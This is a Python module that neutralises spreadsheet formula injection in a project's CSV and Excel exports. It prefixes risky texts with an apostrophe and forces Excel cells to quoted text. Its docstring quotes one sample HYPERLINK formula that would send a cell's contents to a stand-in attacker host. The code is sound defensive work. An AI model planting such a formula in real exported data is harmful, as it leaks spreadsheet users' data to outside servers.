"""The one writer of every CSV row and Excel cell the project produces.

A text that starts with = + - @ (or a tab or carriage return) is read by a spreadsheet as a
formula: a clarification answer `=HYPERLINK("http://evil.example/?c="&B2,"x")` in an audit CSV
would send a cell of the reader's sheet to another server. Every value goes through here:

- CSV: such a text gets a leading apostrophe (`'=1+1`), the usual defence: a spreadsheet shows
  it as text and never evaluates it; a person or a program sees the original after the quote.
- Excel: the text is written unchanged as a STRING cell (openpyxl would otherwise store a text
  starting with "=" as a formula) with the "quote prefix" style, so that Excel keeps it as text
  even when someone edits the cell.

Numbers stay numbers, negative ones too: only texts are neutralised, and a text that is just a
number ("-3.5", as the score table writes its figures) is left alone, since a spreadsheet reads
it as that number and nothing else. `tests/core/test_tabular_writers.py` feeds a hostile value
through every writer and holds that no module writes a cell any other way.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
import shutil
import zipfile
from collections.abc import Iterable
from decimal import Decimal
from pathlib import Path
from typing import IO, Any

from openpyxl import Workbook
from openpyxl.cell import Cell, WriteOnlyCell
from openpyxl.writer.excel import ExcelWriter

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet could read `text` as a formula."""
    return text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text)


def csv_text(value: object) -> str:
    """One CSV field: None is empty, a Decimal keeps its digits, a risky text gets a quote."""
    if value is None:
        return ""
    if isinstance(value, Decimal):
        # format(..., "f") never writes an exponent (Decimal("1E+1") would otherwise print so).
        return format(value, "f")
    if isinstance(value, bool | int | float):
        return str(value)
    text = str(value)
    return "'" + text if is_formula_like(text) else text


class CsvRows:
    """csv.writer whose every field goes through `csv_text`."""

    def __init__(self, stream: IO[str] | Any, **fmtparams: Any) -> None:
        self._writer = csv.writer(stream, **fmtparams)

    def writerow(self, values: Iterable[object]) -> None:
        self._writer.writerow([csv_text(value) for value in values])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for values in rows:
            self.writerow(values)


def csv_writer(stream: IO[str] | Any, **fmtparams: Any) -> CsvRows:
    """A writer for `stream` (a file, a StringIO or an HttpResponse)."""
    return CsvRows(stream, **fmtparams)


def csv_document(rows: Iterable[Iterable[object]], **fmtparams: Any) -> str:
    buffer = io.StringIO()
    csv_writer(buffer, **fmtparams).writerows(rows)
    return buffer.getvalue()


def new_workbook(*, write_only: bool = False) -> Workbook:
    return Workbook(write_only=write_only)


def _as_text(cell: Cell) -> Cell:
    if isinstance(cell.value, str) and is_formula_like(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def excel_cell(sheet: Any, value: Any) -> Cell:
    """A detached cell for `sheet.append` (both write-only and ordinary sheets take it)."""
    cell = WriteOnlyCell(sheet)
    cell.value = value
    return _as_text(cell)


def excel_row(sheet: Any, values: Iterable[object]) -> list[object]:
    """The row to append: a Cell already made is checked again, a formula-like text becomes a
    text cell, every other value (None, numbers, dates, plain texts) is handed to openpyxl as it
    is: it binds them exactly as `excel_cell` would, and making a cell of each here doubled the
    time of a national workbook (hundreds of thousands of cells)."""
    row: list[object] = []
    for value in values:
        if isinstance(value, Cell):
            row.append(_as_text(value))
        elif isinstance(value, str) and is_formula_like(value):
            row.append(excel_cell(sheet, value))
        else:
            row.append(value)
    return row


def append_row(sheet: Any, values: Iterable[object]) -> None:
    sheet.append(excel_row(sheet, values))


def set_cell(sheet: Any, *, row: int, column: int, value: Any) -> Cell:
    cell: Cell = sheet.cell(row=row, column=column)
    cell.value = value
    return _as_text(cell)


def _sweep(book: Workbook) -> None:
    """A last check of an ordinary workbook: no text cell may leave as a formula."""
    if book.write_only:
        return  # its rows are already written, each through excel_row
    for sheet in book.worksheets:
        # The cells that exist, not iter_rows(): that would create every empty cell of the
        # sheet's rectangle, and each would be written out.
        for cell in list(getattr(sheet, "_cells", {}).values()):
            if isinstance(cell, Cell) and cell.data_type == "f":
                _as_text(cell)


def workbook_bytes(book: Workbook, *, at: datetime.datetime | None = None) -> bytes:
    """The workbook as an .xlsx file. With `at`, the file states that time wherever openpyxl
    would write the clock's (its created/modified properties, each zip member's time), so the
    same rows and `at` give the same bytes: a published file rendered on request is the file a
    job kept for that publication (`exports/stored.py`)."""
    _sweep(book)
    output = io.BytesIO()
    if at is None:
        book.save(output)
        return output.getvalue()
    moment = at.astimezone(datetime.UTC).replace(tzinfo=None, microsecond=0)
    book.properties.created = book.properties.modified = moment
    # openpyxl's save_workbook would set `modified` to now; its writer alone does not.
    ExcelWriter(book, _FixedTimeZip(output, moment)).save()
    return output.getvalue()


class _FixedTimeZip(zipfile.ZipFile):
    """A zip archive whose every member carries one given time instead of the clock's."""

    def __init__(self, file: IO[bytes], moment: datetime.datetime) -> None:
        super().__init__(file, "w", zipfile.ZIP_DEFLATED, allowZip64=True)
        self._moment = moment.timetuple()[:6]

    def _info(self, name: str) -> zipfile.ZipInfo:
        info = zipfile.ZipInfo(name, date_time=self._moment)
        info.compress_type = self.compression
        info.external_attr = 0o600 << 16
        return info

    def writestr(  # type: ignore[override]
        self, zinfo_or_arcname: str | zipfile.ZipInfo, data: bytes | str, *args: Any, **kw: Any
    ) -> None:
        if isinstance(zinfo_or_arcname, str):
            zinfo_or_arcname = self._info(zinfo_or_arcname)
        super().writestr(zinfo_or_arcname, data, *args, **kw)

    def write(  # type: ignore[override]
        self, filename: str | Path, arcname: str | None = None, *args: Any, **kw: Any
    ) -> None:
        # A write-only sheet's rows wait in a temporary file: copied in, stamped with the time.
        with (
            open(filename, "rb") as source,
            self.open(self._info(arcname or str(filename)), "w") as target,
        ):
            shutil.copyfileobj(source, target, 1024 * 1024)


def save_workbook(book: Workbook, path: Path) -> None:
    _sweep(book)
    book.save(path)
